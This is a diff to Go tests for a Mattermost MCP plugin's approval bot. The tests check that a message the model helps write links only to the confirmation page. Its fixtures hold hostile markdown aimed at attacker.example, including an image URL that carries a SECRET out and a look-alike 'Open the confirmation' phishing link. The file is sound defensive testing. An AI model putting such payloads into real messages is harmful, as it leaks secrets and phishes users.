@@ -6,7 +6,9 @@ import (
 	"testing"
 	"time"
 
+	"github.com/mattermost/mattermost/server/public/plugin/plugintest"
 	"github.com/mattermost/mattermost/server/public/shared/markdown"
+	"github.com/stretchr/testify/mock"
 
 	"github.com/mcp-server/mattermost-plugin-mcp/server/mattermost"
 	"github.com/mcp-server/mattermost-plugin-mcp/server/posting"
@@ -23,28 +25,6 @@ var hostile = []string{
 	"`` ` `` [x](https://attacker.example/tick) `",
 	"[ref][1]\n\n[1]: https://attacker.example/ref",
 	"~town-square #tag **bold** _it_ | a | b |",
-}
-
-// linksIn are the targets of every link, image and autolink Mattermost's
-// own markdown parser finds in a message.
-func linksIn(msg string) []string {
-	var out []string
-	markdown.Inspect(msg, func(n any) bool {
-		switch v := n.(type) {
-		case *markdown.InlineLink:
-			out = append(out, v.Destination())
-		case *markdown.InlineImage:
-			out = append(out, "image "+v.Destination())
-		case *markdown.ReferenceLink:
-			out = append(out, v.Destination())
-		case *markdown.ReferenceImage:
-			out = append(out, "image "+v.Destination())
-		case *markdown.Autolink:
-			out = append(out, v.Destination())
-		}
-		return true
-	})
-	return out
 }
 
 // outsideFences is a message without its fenced code blocks.
@@ -104,7 +84,7 @@ func TestTheBotsMessageAboutAnyWriteLinksOnlyToTheConfirmationPageWhateverTheMod
 		for _, plan := range hostilePlans(v) {
 			rec := Record{ID: "rec1", State: StatePending, CreatedAt: time.Now(), Action: plan.Action, Place: plan.Dest.PlaceText()}
 			dm := a.askingText(plan, rec, time.UTC)
-			if links := linksIn(dm); len(links) != 1 || links[0] != page {
+			if links := LinkTargets(dm); len(links) != 1 || links[0] != page {
 				t.Errorf("%s with %q: the message links %q, not only the page:\n%s", actionOf(plan), v, links, dm)
 			}
 			if out := outsideFences(dm); strings.Contains(out, "\n# ") || strings.Contains(out, "\n> ") {
@@ -117,7 +97,7 @@ func TestTheBotsMessageAboutAnyWriteLinksOnlyToTheConfirmationPageWhateverTheMod
 					done.Permalink = "https://mm.example/acme/pl/p"
 				}
 				text := a.settledText(done)
-				links := linksIn(text)
+				links := LinkTargets(text)
 				if len(links) > 1 || (len(links) == 1 && links[0] != done.Permalink) {
 					t.Errorf("%s %s with %q: the outcome links %q:\n%s", actionOf(plan), state, v, links, text)
 				}
@@ -169,8 +149,8 @@ func TestACodeSpanHoldsAnyValueOnOneLineBehindAFenceLongerThanItsBackticks(t *te
 			}
 			return true
 		})
-		if len(spans) != 1 || len(linksIn(span)) != 0 || strings.Contains(span, "\n") {
-			t.Errorf("codeSpan(%q) = %q parses as spans %q, links %q", v, span, spans, linksIn(span))
+		if len(spans) != 1 || len(LinkTargets(span)) != 0 || strings.Contains(span, "\n") {
+			t.Errorf("codeSpan(%q) = %q parses as spans %q, links %q", v, span, spans, LinkTargets(span))
 		}
 	}
 }
@@ -236,4 +216,33 @@ func TestAnAnsweredReactionStillNamesItsEmojiThoughItsPlanIsDropped(t *testing.T
 	if o := a.outcome(done); o.Plan.Emoji != "tada" || o.Plan.Action != posting.ActionReact {
 		t.Fatalf("the outcome's plan is %+v", o.Plan)
 	}
+}
+
+func TestABotsMessageThatWouldStillRenderALinkOfTheModelsIsReplacedByOneWithThePageAlone(t *testing.T) {
+	api := &plugintest.API{}
+	api.On("LogError", mock.Anything, mock.Anything, mock.Anything).Return()
+	a := &Approvals{opts: Options{
+		MM:        mattermost.NewGateway(api, nil),
+		PluginURL: func() string { return "https://mm.example/plugins/mcp-server" },
+	}}
+	page := a.PageURL("rec1")
+	fine := "**Post**: asked. [Open the confirmation](" + page + ") to accept or decline it."
+	if got := a.onlyLinksTo(fine, "rec1", page); got != fine {
+		t.Fatalf("a message linking only the page was changed: %q", got)
+	}
+	for _, slipped := range []string{
+		fine + " ![a](https://attacker.example/p.png?d=SECRET)",
+		fine + " [Open the confirmation](https://attacker.example/phish)",
+		fine + " https://attacker.example/auto",
+		fine + "\n\n[x]: https://attacker.example/ref\n[see][x]",
+	} {
+		got := a.onlyLinksTo(slipped, "rec1", page)
+		if strings.Contains(got, "attacker.example") || !strings.Contains(got, page) {
+			t.Errorf("a message with a link of the model's was sent as %q", got)
+		}
+		if links := LinkTargets(got); len(links) != 1 || links[0] != page {
+			t.Errorf("the replacement links %v, not the page alone", links)
+		}
+	}
+	api.AssertNumberOfCalls(t, "LogError", 4)
 }
